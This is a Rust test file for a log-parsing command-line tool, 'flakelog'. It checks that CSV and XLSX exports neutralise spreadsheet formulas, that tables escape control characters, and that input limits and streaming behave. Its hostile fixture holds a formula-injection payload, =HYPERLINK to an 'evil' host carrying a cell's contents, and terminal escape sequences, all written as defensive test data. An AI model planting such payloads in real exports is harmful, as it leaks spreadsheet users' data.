//! Output that is safe to open, and the small promises of issue #10: spreadsheets never run
//! what a log says, a full disk is an error of its own, tables print no control characters,
//! limits on what is read, and nothing read is dropped or invented.

mod common;
use common::{fixture, flakelog, jsonl};

use calamine::{Data, Reader, Xlsx};
use std::io::{Read, Write};
use std::process::{Command, Stdio};

/// A log whose lines carry what a spreadsheet or a terminal would act on.
const HOSTILE: &str = concat!(
    "== CPython 3.12.1 (main, Dec 15 2023, 13:32:22) [GCC 12.2.0]\n",
    "0:00:00 load avg: 1.00 Run 1 test in parallel using 1 worker process\n",
    "0:00:01 load avg: 1.00 [1/1/1] test_x failed (env changed)\n",
    "Fatal Python error: =HYPERLINK(\"http://evil/?\"&A2,\"open\")\n",
    "Warning -- multiprocessing.process._dangling was modified by test_x\n",
    "  Before: set()\n",
    "  After:  {<weakref at 0x7f3b2c1d2e80; to 'SpawnProcess' at 0x7f3b2c1d3f10>} \n",
    "Windows fatal exception: bell\x07 nul\x00 vt\x0b end\n",
    "Result: ENV CHANGED\n",
);

fn run_on(args: &[&str], log: &str) -> std::process::Output {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.log");
    std::fs::write(&path, log).unwrap();
    flakelog().args(args).arg(&path).output().unwrap()
}

#[test]
fn safe_csv_makes_no_cell_a_formula_and_plain_csv_is_verbatim() {
    let plain = String::from_utf8(run_on(&["events", "--format", "csv"], HOSTILE).stdout).unwrap();
    assert!(plain.contains(",\"=HYPERLINK("), "{plain}");
    let safe =
        String::from_utf8(run_on(&["events", "--format", "csv", "--safe-csv"], HOSTILE).stdout)
            .unwrap();
    assert!(safe.contains(",\"'=HYPERLINK("), "{safe}");
    assert!(safe.contains(",'+SpawnProcess,"), "{safe}");
    // what the reader gets back is the text, each dangerous cell behind one quote
    let mut reader = csv::Reader::from_reader(safe.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '@']), "{cell}");
            assert!(
                !cell.starts_with('-') || cell.parse::<f64>().is_ok(),
                "{cell}"
            );
        }
    }
}

#[test]
fn xlsx_writes_text_as_strings_and_numbers_as_numbers() {
    let out = run_on(&["events", "--format", "xlsx"], HOSTILE);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut book = Xlsx::new(std::io::Cursor::new(out.stdout)).unwrap();
    let sheet = book.worksheet_range("flakelog").unwrap();
    let header: Vec<String> = sheet
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<&[Data]> = sheet.rows().skip(1).collect();
    let fatal = rows
        .iter()
        .find(|r| r[col("kind")] == Data::String("fatal_error".into()))
        .unwrap();
    assert_eq!(
        fatal[col("detail")],
        Data::String("=HYPERLINK(\"http://evil/?\"&A2,\"open\")".into())
    );
    let modified = rows
        .iter()
        .find(|r| r[col("kind")] == Data::String("modified".into()))
        .unwrap();
    assert_eq!(
        modified[col("detail")],
        Data::String("+SpawnProcess".into())
    );
    assert_eq!(modified[col("count")], Data::Float(1.0));
    assert_eq!(modified[col("line")], Data::Float(5.0));
    // and to a terminal it is refused, as binary
}

#[test]
fn a_table_shows_control_characters_escaped() {
    let dir = tempfile::tempdir().unwrap();
    // in the file name too
    let path = dir.path().join("evil\x1b[2Jname.log");
    std::fs::write(&path, HOSTILE).unwrap();
    let out = flakelog()
        .args(["events", "--format", "table"])
        .arg(&path)
        .env("COLUMNS", "1000")
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    for control in ['\x1b', '\x07', '\0', '\x0b'] {
        assert!(!text.contains(control), "{control:?} in {text:?}");
    }
    assert!(text.contains("bell\\x07 nul\\x00 vt\\x0b end"), "{text}");
    assert!(text.contains("evil\\x1b[2Jname.log"), "{text}");
}

#[cfg(target_os = "linux")]
#[test]
fn a_write_error_is_exit_1_and_says_it_was_the_output() {
    let out = Command::new(assert_cmd::cargo::cargo_bin("flakelog"))
        .args(["events"])
        .arg(fixture("era-e-3.12.log"))
        .stdout(std::fs::File::create("/dev/full").unwrap())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.starts_with("flakelog: writing output: "), "{stderr}");
}

#[test]
fn a_rules_file_is_read_only_up_to_a_limit() {
    let dir = tempfile::tempdir().unwrap();
    let big = dir.path().join("big.rules");
    std::fs::write(&big, "# comment line\n".repeat(100_000)).unwrap();
    let out = flakelog()
        .args(["events", "--rules"])
        .arg(&big)
        .arg(fixture("era-e-3.12.log"))
        .assert()
        .code(2);
    let stderr = String::from_utf8_lossy(&out.get_output().stderr);
    assert!(
        stderr.contains("big.rules") && stderr.contains("larger than 1 MiB"),
        "{stderr}"
    );
}

#[test]
fn threads_are_capped_with_a_note() {
    let out = flakelog()
        .args(["runs", "-j", "100000"])
        .arg(fixture("era-e-3.12.log"))
        .assert()
        .success();
    let stderr = String::from_utf8_lossy(&out.get_output().stderr);
    assert!(stderr.contains("-j 100000 capped at"), "{stderr}");
}

#[test]
fn a_repeated_header_block_is_not_a_run_of_its_own() {
    let log = std::fs::read_to_string(fixture("era-e-3.12.log")).unwrap();
    let header: String = log
        .lines()
        .take_while(|l| !l.contains(" Run "))
        .map(|l| format!("{l}\n"))
        .collect();
    assert!(header.contains("== CPython"));
    let doubled = format!("{header}{log}");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("doubled.log");
    std::fs::write(&path, doubled).unwrap();
    let out = flakelog()
        .args(["runs", "--strict", "--format", "jsonl"])
        .arg(&path)
        .assert()
        .success();
    let runs = jsonl(&out.get_output().stdout);
    assert_eq!(runs.len(), 1, "{runs:?}");
    assert_eq!(runs[0]["complete"], true);
}

#[test]
fn a_cut_line_still_says_so_after_set_aside_output_is_replayed() {
    // a run cut inside a test's output, then another log whose warning line is 5 MiB long:
    // its lines are set aside (nested output?) and replayed as a new run
    let mut log = String::from(
        "0:00:00 Run 3 tests in parallel using 2 worker processes\n\
         0:00:10 [1/3] test_a failed\nTraceback (most recent call last):\n\
         == CPython 3.12.1 (main, Dec 15 2023, 13:32:22)\n\
         0:00:00 Run 1 test in parallel using 1 worker process\n\
         0:00:01 [1/1/1] test_b failed (env changed)\nWarning -- Dangling processes: {",
    );
    log.push_str(&"<SpawnProcess(SpawnProcess-1, started)>, ".repeat(130_000));
    log.push_str("}\n");
    let out = run_on(&["events", "--format", "jsonl"], &log);
    let rows = jsonl(&out.stdout);
    let dangling = rows
        .iter()
        .find(|r| r["kind"] == "dangling_process")
        .unwrap();
    assert_eq!(dangling["run"], 1);
    assert!(
        dangling["detail"]
            .as_str()
            .unwrap()
            .ends_with("[line cut at 4 MiB]"),
        "{}",
        dangling["detail"]
    );
}

/// Write `log` again and again, far more than anyone reads (400 MB), until the reader is
/// gone; how many bytes were taken.
fn write_until_closed(out: &mut impl Write, log: &[u8]) -> u64 {
    let mut written = 0u64;
    for _ in 0..(400_000_000 / log.len()) {
        if out.write_all(log).is_err() {
            break;
        }
        written += log.len() as u64;
    }
    written
}

/// Read the first 64 bytes `child` writes, close its output, and check that it ends quietly
/// and that `writer` (feeding its input) was stopped long before its 400 MB; those bytes.
fn read_first_then_close(
    mut child: std::process::Child,
    writer: std::thread::JoinHandle<u64>,
) -> [u8; 64] {
    let mut stdout = child.stdout.take().unwrap();
    let mut first = [0u8; 64];
    stdout.read_exact(&mut first).unwrap();
    drop(stdout);
    let status = child.wait().unwrap();
    let written = writer.join().unwrap();
    assert_eq!(status.code(), Some(0));
    assert!(
        written < 100_000_000,
        "{written} bytes were taken after the output closed"
    );
    first
}

#[test]
fn stdin_stops_being_read_when_the_output_is_closed() {
    let mut child = Command::new(assert_cmd::cargo::cargo_bin("flakelog"))
        .args(["events", "--format", "csv"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let log = std::fs::read(fixture("era-e-3.12.log")).unwrap();
    let writer = std::thread::spawn(move || write_until_closed(&mut stdin, &log));
    read_first_then_close(child, writer);
}

/// One file alone is streamed like stdin: its rows go out as its runs end, and when the
/// output is closed (`events BIG | head -1`) the reading stops. The file is a FIFO fed far
/// beyond what anyone reads, so a reader that went on to the end would never finish.
#[cfg(unix)]
#[test]
fn a_file_read_alone_streams_and_stops_when_the_output_is_closed() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("big.log");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let log = std::fs::read(fixture("era-e-3.12.log")).unwrap();
    let path = fifo.clone();
    let writer = std::thread::spawn(move || {
        let mut out = std::fs::OpenOptions::new().write(true).open(path).unwrap();
        write_until_closed(&mut out, &log)
    });
    let child = Command::new(assert_cmd::cargo::cargo_bin("flakelog"))
        .args(["events", "--format", "jsonl"])
        .arg(&fifo)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let first = read_first_then_close(child, writer);
    assert!(
        first.starts_with(b"{\"source\":"),
        "{}",
        String::from_utf8_lossy(&first)
    );
}
